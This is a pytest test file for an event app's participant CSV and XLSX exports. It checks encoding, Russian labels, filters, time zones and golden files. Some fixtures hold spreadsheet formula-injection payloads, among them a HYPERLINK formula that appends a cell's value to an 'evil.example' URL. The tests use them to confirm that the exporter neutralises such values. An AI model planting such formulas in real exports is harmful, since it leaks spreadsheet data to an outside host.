"""Participant exports: CSV (UTF-8 with BOM, streamed) and XLSX, in the organiser's language."""
from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime
from datetime import time as time_of_day
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest

from app.events.models import RegistrationMode
from app.extensions import db
from tests.conftest import EVENT_YEAR, translated
from tests.registration.test_manage import SECTOR, TOPICS, insert_registrations

CHECKED_IN = datetime(EVENT_YEAR, 5, 16, 3, 45, tzinfo=UTC)  # 08:45 in Almaty (UTC+5)


@pytest.fixture
def exported_event(app, create_user, create_event, add_field):
    organiser = create_user(email="org@example.org", preferred_language="ru")
    event = create_event(organiser=organiser, slug="npm-forum", registration_mode=RegistrationMode.APPROVAL)
    add_field(event, "sector", "single_choice", label={"en": "Sector", "ru": "Сфера деятельности"}, choices=SECTOR,
              position=1)
    add_field(event, "topics", "multiple_choice", label={"en": "Topics", "ru": "Темы"}, choices=TOPICS, position=2)
    add_field(event, "country", "country", label={"en": "Country", "ru": "Страна"}, position=3)
    add_field(event, "wheelchair", "checkbox", label={"en": "Wheelchair access"}, position=4)  # no Russian label
    insert_registrations(app, event, [
        {"name": "Айгерим Сапарова", "email": "aigerim@example.kz", "organisation": "Министерство юстиции РК",
         "answers": {"sector": "government", "topics": ["detention", "health"], "country": "KZ", "wheelchair": True},
         "checked_in_at": CHECKED_IN},
        {"name": "Ұлан Қасымұлы", "email": "ulan@example.kz", "organisation": "=HYPERLINK(\"http://evil\")",
         "status": "pending", "language": "kk", "answers": {"sector": "ngo", "country": "GB"}},
    ])
    return organiser, event


def _csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_has_bom_cyrillic_and_a_column_per_question_in_the_organisers_language(app, client, login, exported_event):
    organiser, event = exported_event
    login(organiser)
    response = client.get(f"/manage/events/{event.slug}/registrations.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "no-store" in response.headers["Cache-Control"]
    disposition = response.headers["Content-Disposition"]
    filename = f"npm-forum-{translated(app, 'ru', 'participants')}.csv"
    assert disposition.startswith('attachment; filename="npm-forum-participants.csv"')
    assert f"filename*=UTF-8''{quote(filename)}" in disposition
    header, first, second = _csv(response)
    assert header[:4] == [translated(app, "ru", "Name"), translated(app, "ru", "E-mail address"),
                          translated(app, "ru", "Organisation"), translated(app, "ru", "Status")]
    assert header[7:11] == ["Сфера деятельности", "Темы", "Страна", "Wheelchair access"]
    assert first[:4] == ["Айгерим Сапарова", "aigerim@example.kz", "Министерство юстиции РК",
                         translated(app, "ru", "Confirmed")]
    assert first[6] == f"{EVENT_YEAR}-05-16 08:45"  # checked in, in the event's time zone
    assert first[7:11] == ["Государство", "Места лишения свободы; Здоровье", "Казахстан", translated(app, "ru", "Yes")]
    assert second[3] == translated(app, "ru", "Awaiting approval")
    assert second[4] == "Казахский"  # the participant's mail language, named in Russian
    assert second[7:11] == ["Гражданское общество", "", "Великобритания", ""]
    # A participant's "formula" stays text in a spreadsheet.
    assert second[2] == "'=HYPERLINK(\"http://evil\")"


def test_exports_apply_the_tables_filters(client, login, exported_event):
    organiser, event = exported_event
    login(organiser)
    rows = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv?f_sector=ngo"))
    assert [row[0] for row in rows[1:]] == ["Ұлан Қасымұлы"]
    rows = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv?status=confirmed&q=юстиции"))
    assert [row[0] for row in rows[1:]] == ["Айгерим Сапарова"]
    rows = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv?sort=-name"))
    assert [row[0] for row in rows[1:]] == ["Ұлан Қасымұлы", "Айгерим Сапарова"]


def test_xlsx_opens_with_openpyxl_and_holds_the_same_rows(app, client, login, exported_event):
    organiser, event = exported_event
    login(organiser)
    csv_rows = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv"))
    response = client.get(f"/manage/events/{event.slug}/registrations.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "no-store" in response.headers["Cache-Control"]
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    sheet = workbook.worksheets[0]
    rows = [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == csv_rows[0]
    assert len(rows) == len(csv_rows) == 3
    assert rows[1][6] == datetime(EVENT_YEAR, 5, 16, 8, 45)  # a real date cell, in the event's time zone
    assert isinstance(rows[1][5], datetime)
    for xlsx_row, csv_row in zip(rows[1:], csv_rows[1:]):
        assert [v for i, v in enumerate(xlsx_row) if i not in (2, 5, 6)] == \
               [v for i, v in enumerate(csv_row) if i not in (2, 5, 6)]
    # No formula: the cell holds the participant's text as it was typed.
    assert rows[2][2] == "=HYPERLINK(\"http://evil\")"
    workbook.close()


def test_an_organisation_question_is_not_exported_twice(app, client, create_user, create_event, login, register,
                                                       add_field):
    organiser = create_user(email="org@example.org")
    event = create_event(organiser=organiser, slug="plain")
    add_field(event, "organisation", "text", label={"en": "Organisation"})
    add_field(event, "diet", "text", label={"en": "Diet"})
    register(event, create_user(email="p@example.org", name="Dana"), answers={"organisation": "NHRI", "diet": "none"})
    login(organiser)
    header, row = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv"))
    assert header.count("Organisation") == 1 and "Diet" in header
    assert row[2] == "NHRI" and row[header.index("Diet")] == "none"


def test_formulas_in_question_labels_and_choices_stay_text_in_both_files(app, client, create_user, create_event,
                                                                         login, add_field):
    """An organiser's question label is a header cell: it is neutralised like every other cell."""
    organiser = create_user(email="org@example.org")
    event = create_event(organiser=organiser, slug="plain")
    label = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    add_field(event, "q", "single_choice", label={"en": label},
              choices=[{"key": "a", "label": {"en": "@SUM(1+1)"}}, {"key": "b", "label": {"en": "\tplain"}}])
    add_field(event, "note", "text", label={"en": "+cmd"}, position=1)
    insert_registrations(app, event, [{"name": "-2+3", "email": "p@example.org", "answers": {"q": "a", "note": "－1"}}])
    login(organiser)
    header, row = _csv(client.get(f"/manage/events/{event.slug}/registrations.csv"))
    assert header[7:9] == ["'" + label, "'+cmd"]
    assert row[0] == "'-2+3" and row[7:9] == ["'@SUM(1+1)", "'－1"]
    response = client.get(f"/manage/events/{event.slug}/registrations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    titles, cells = list(sheet.iter_rows(max_row=2))
    for cell in (titles[7], titles[8], cells[0], cells[7], cells[8]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.value  # text, and stays text when edited
    assert titles[7].value == label and cells[0].value == "-2+3"  # shown as typed, without an apostrophe
    assert not titles[0].quotePrefix and not cells[1].quotePrefix  # ordinary text is left alone


# --- the same files as before streaming ---------------------------------------------------------

GOLDEN = Path(__file__).parent / "golden" / "participants_export.json"


@pytest.fixture
def rich_event(app, create_user, create_event, create_session, add_field):
    """Every kind of cell: statuses, languages, answers of each kind (and none), formulas, notes,
    check-in times and places in limited sessions (one on a waiting list)."""
    from app.registration.models import SessionRegistration, SessionRegistrationStatus

    organiser = create_user(email="org@example.org", preferred_language="ru")
    event = create_event(organiser=organiser, slug="npm-forum", registration_mode=RegistrationMode.APPROVAL)
    add_field(event, "organisation", "text", label={"en": "Organisation", "ru": "Организация"})
    add_field(event, "sector", "single_choice", label={"en": "Sector", "ru": "Сфера деятельности"}, choices=SECTOR,
              position=1)
    add_field(event, "topics", "multiple_choice", label={"en": "Topics", "ru": "Темы"}, choices=TOPICS, position=2)
    add_field(event, "country", "country", label={"en": "Country", "ru": "Страна"}, position=3)
    add_field(event, "wheelchair", "checkbox", label={"en": "Wheelchair access"}, position=4)
    add_field(event, "mail_language", "language", label={"en": "Language", "ru": "Язык"}, position=5)
    add_field(event, "diet", "long_text", label={"en": "Diet", "ru": "Питание"}, position=6)
    workshop = create_session(event, {"en": "Workshop", "ru": "Практикум"}, capacity=10, kind="workshop")
    module = create_session(event, {"en": "Module", "ru": "Модуль"}, capacity=1, kind="training_module",
                            start=time_of_day(14))
    ids = insert_registrations(app, event, [
        {"name": "Айгерим Сапарова", "email": "aigerim@example.kz", "organisation": "Министерство юстиции РК",
         "answers": {"organisation": "Министерство юстиции РК", "sector": "government",
                     "topics": ["detention", "health"], "country": "KZ", "wheelchair": True, "mail_language": "kk",
                     "diet": "Халал\nбез орехов"},
         "checked_in_at": CHECKED_IN},
        {"name": "Ұлан Қасымұлы", "email": "ulan@example.kz", "organisation": "=HYPERLINK(\"http://evil\")",
         "status": "pending", "language": "kk", "answers": {"sector": "ngo", "country": "GB", "wheelchair": False}},
        {"name": "John Smith", "email": "john@example.org", "status": "waiting", "answers": {"topics": ["health"]}},
        {"name": "-Minus Person", "email": "minus@example.org", "status": "cancelled", "language": "ru",
         "answers": {"sector": "gone-choice", "unknown_key": "x"}},
        {"name": "Rejected One", "email": "rejected@example.org", "status": "rejected", "answers": {}},
    ])
    with app.app_context():
        from app.registration.models import Registration

        db.session.get(Registration, ids[0]).internal_note = "VIP; встретить в аэропорту"
        db.session.get(Registration, ids[1]).internal_note = "@mention"
        now = datetime(EVENT_YEAR, 4, 2, tzinfo=UTC)
        db.session.add_all([
            SessionRegistration(session_id=workshop, registration_id=ids[0], status=SessionRegistrationStatus.CONFIRMED,
                                confirmed_at=now),
            SessionRegistration(session_id=module, registration_id=ids[0], status=SessionRegistrationStatus.CONFIRMED,
                                confirmed_at=now),
            SessionRegistration(session_id=module, registration_id=ids[2], status=SessionRegistrationStatus.WAITING,
                                waiting_since=now),
            SessionRegistration(session_id=workshop, registration_id=ids[3], status=SessionRegistrationStatus.CANCELLED,
                                cancelled_at=now),
        ])
        db.session.commit()
    return organiser, event


def _xlsx_cells(data: bytes) -> list[list]:
    """Every cell as [value, type, number format, quote prefix, bold] (dates as ISO text)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [[[cell.value.isoformat() if isinstance(cell.value, datetime) else cell.value, cell.data_type,
              cell.number_format, bool(cell.quotePrefix), bool(cell.font and cell.font.b)] for cell in row]
            for row in sheet.iter_rows()]


def test_exports_hold_exactly_what_they_held_before_they_were_streamed(app, client, login, rich_event):
    """The CSV byte for byte, and every XLSX cell with its type and format, as the exports built
    whole in memory wrote them (tests/registration/golden/participants_export.json), on both databases."""
    organiser, event = rich_event
    login(organiser)
    exported = {}
    for args in ("", "?sort=-name", "?status=confirmed"):
        # Each read to its end before the next request, as a server does with a streamed answer.
        csv_response = client.get(f"/manage/events/{event.slug}/registrations.csv{args}")
        csv_text = csv_response.get_data(as_text=True)
        xlsx_response = client.get(f"/manage/events/{event.slug}/registrations.xlsx{args}")
        assert csv_response.status_code == xlsx_response.status_code == 200
        exported[args or "all"] = {"csv": csv_text, "xlsx": _xlsx_cells(xlsx_response.get_data())}
    # The same file next year: the fixture's dates are in the year ahead.
    exported = json.loads(json.dumps(exported).replace(str(EVENT_YEAR), "EVENT_YEAR"))
    if os.environ.get("WRITE_GOLDEN"):
        GOLDEN.parent.mkdir(exist_ok=True)
        GOLDEN.write_text(json.dumps(exported, ensure_ascii=False, indent=1) + "\n")
    assert exported == json.loads(GOLDEN.read_text())
